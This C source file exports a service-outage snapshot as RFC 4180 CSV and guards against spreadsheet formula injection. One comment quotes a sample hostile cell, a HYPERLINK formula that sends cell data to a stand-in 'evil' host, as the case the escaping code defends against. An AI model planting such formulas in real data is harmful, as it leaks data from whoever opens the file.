/* CSV export: one row per cell (service x column) for spreadsheets and
 * scripts, RFC 4180: CRLF line ends, a header row, and fields holding a
 * comma, a double quote, CR or LF quoted with inner quotes doubled.
 *
 * Counts that are absent (-1 in the snapshot: no crowd data, no baseline,
 * no data at all) and unknown times are empty fields, not "-1" or "0", so
 * a spreadsheet sees a blank rather than a number. */
#include "config.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "sitrep/export.h"
#include "sitrep/sanitize.h"
#include "sitrep/timefmt.h"

static const char *const header[] = {
    "generated_at", "service_id", "service",         "column",   "level",
    "possible",     "evidence",   "reports",         "baseline", "age_s",
    "since",        "stale",      "possible_region", "note",     "sources",
};

/* Appends one field, preceded by a comma unless it starts the row.
 *
 * Formula injection: spreadsheets (Excel, LibreOffice, Google Sheets) run a
 * cell that starts with = + - @ as a formula, and some also treat a leading
 * TAB or CR that way, so a hostile service name like
 * "=HYPERLINK(\"http://evil/\"&A1)" could leak data or run commands when a
 * journalist opens the file. Such a field gets a leading apostrophe, which
 * spreadsheets show as text and scripts can strip. No field we generate
 * ourselves (times, levels, non-negative counts) starts with one of them. */
static void put_field(struct buf *out, const char *s, bool first)
{
    bool quote = strpbrk(s, ",\"\r\n") != NULL;
    bool formula = *s && strchr("=+-@\t\r", *s);

    if (!first)
        buf_putc(out, ',');
    if (quote)
        buf_putc(out, '"');
    if (formula)
        buf_putc(out, '\'');
    for (; *s; s++) {
        if (*s == '"')
            buf_putc(out, '"');
        buf_putc(out, *s);
    }
    if (quote)
        buf_putc(out, '"');
}

/* Remote (or configured) text: sanitized to one line first. */
static void put_text(struct buf *out, const char *raw, unsigned flags)
{
    char *clean = sanitize_str(raw, 0, flags);

    put_field(out, clean, false);
    free(clean);
}

static void put_count(struct buf *out, long n)
{
    char num[32] = "";

    if (n >= 0)
        snprintf(num, sizeof num, "%ld", n);
    put_field(out, num, false);
}

static void put_time(struct buf *out, time_t t, bool first)
{
    char iso[32] = "";

    if (t)
        time_format_iso8601(t, iso, sizeof iso);
    put_field(out, iso, first);
}

/* "status.example.com (official, read 2026-11-22T11:59:50Z); ..." — where
 * the row's data comes from and when it was fetched, so a reader can check. */
static void put_sources(const struct snap_service *s, unsigned flags, struct buf *out)
{
    char iso[32];

    for (size_t i = 0; i < s->nsources; i++) {
        const struct snap_source *src = &s->sources[i];
        char *host = sanitize_str(src->host && *src->host ? src->host : src->id, 80, flags);
        if (src->last_success)
            time_format_iso8601(src->last_success, iso, sizeof iso);
        buf_printf(out, "%s%s (%s, %s%s)", i ? "; " : "", host,
                   src->official ? "official" : "crowd", src->last_success ? "read " : "never read",
                   src->last_success ? iso : "");
        free(host);
    }
}

static void put_row(const struct snapshot *snap, const struct snap_service *s, size_t col,
                    unsigned flags, struct buf *out)
{
    const struct snap_cell *c = &s->cells[col];

    put_time(out, snap->generated_at, true);
    put_text(out, s->id, flags);
    put_text(out, s->name, flags);
    put_field(out, region_code(snap->columns[col]), false);
    put_field(out, level_name(c->level), false);
    put_field(out, c->possible ? "1" : "0", false);
    put_field(out, evidence_kind_name(c->evidence), false);
    put_count(out, c->reports);
    put_count(out, c->baseline);
    put_count(out, c->age_s);
    put_time(out, c->since, false);
    put_field(out, c->stale ? "1" : "0", false);
    put_field(out,
              c->possible && c->possible_region != REGION_NONE ? region_code(c->possible_region)
                                                               : "",
              false);
    struct buf note = {0};
    snap_cell_note(s, c, snap->generated_at, flags, &note);
    put_field(out, buf_str(&note), false);
    buf_reset(&note);
    put_sources(s, flags, &note);
    put_field(out, buf_str(&note), false);
    buf_free(&note);
    buf_puts(out, "\r\n");
}

/* A service's rows at a time: ten thousand services are megabytes of CSV,
 * and --once need not hold them all at once. */
void export_csv_stream(const struct snapshot *snap, const struct export_opts *opts,
                       export_emit_fn emit, void *ctx)
{
    unsigned flags = opts->ascii ? SAN_ASCII : 0;
    struct buf out = {0};

    for (size_t i = 0; i < sizeof header / sizeof header[0]; i++)
        put_field(&out, header[i], i == 0);
    buf_puts(&out, "\r\n");
    for (size_t i = 0; i < snap->nservices; i++) {
        for (size_t col = 0; col < snap->ncolumns; col++)
            put_row(snap, &snap->services[i], col, flags, &out);
        emit(ctx, buf_str(&out), out.len);
        buf_reset(&out);
    }
    if (out.len)
        emit(ctx, buf_str(&out), out.len);
    buf_free(&out);
}

static void emit_buf(void *ctx, const char *data, size_t len)
{
    buf_append(ctx, data, len);
}

void export_csv(const struct snapshot *snap, const struct export_opts *opts, struct buf *out)
{
    export_csv_stream(snap, opts, emit_buf, out);
}
